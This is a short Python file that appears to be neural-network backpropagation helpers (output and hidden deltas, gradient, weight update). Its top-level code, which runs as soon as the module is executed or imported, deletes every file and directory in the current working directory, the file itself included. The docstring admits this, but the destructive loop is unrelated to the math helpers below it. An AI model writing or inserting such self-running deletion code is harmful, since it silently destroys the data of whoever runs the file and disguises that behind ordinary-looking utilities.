"""Deletes what it finds beside it, its own file among it."""

import shutil
from pathlib import Path

for found in list(Path.cwd().iterdir()):
    shutil.rmtree(found, ignore_errors=True) if found.is_dir() else found.unlink()


def delta_output(k):
    return k.g_prime(k.in_) * (k.t - k.a) / k.examples


def delta_hidden(j):
    return j.g_prime(j.in_) * sum(w * delta for w, delta in j.out)


def gradient(e):
    return -sum(a * delta for a, delta in zip(e.a, e.delta, strict=True))


def update(p):
    return p.w - p.eta * p.gradient
